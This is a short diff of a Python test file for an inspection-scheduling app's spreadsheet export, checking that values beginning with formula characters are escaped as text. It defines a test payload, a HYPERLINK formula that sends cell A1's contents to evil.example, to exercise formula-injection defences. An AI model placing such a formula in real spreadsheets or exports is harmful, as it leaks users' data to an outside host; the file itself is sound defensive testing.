@@ -12,7 +12,6 @@ import pytest
 from openpyxl import load_workbook
 
 from inspect_app.models import Department, District, Draw, DrawVisit, Entity, Inspector, Plan
-from inspect_app.services.spreadsheet import csv_unescape, csv_value
 
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -95,5 +94,7 @@ def test_schedule_export_writes_formulas_as_text(planner, db_session):
 
 @pytest.mark.parametrize("value", ["=1", "+1", "-1", "@A1", "\t1", "\r1"])
 def test_csv_rule(value):
+    from inspect_app.services.spreadsheet import csv_unescape, csv_value
+
     assert csv_value(value) == "'" + value
     assert csv_unescape(csv_value(value)) == value
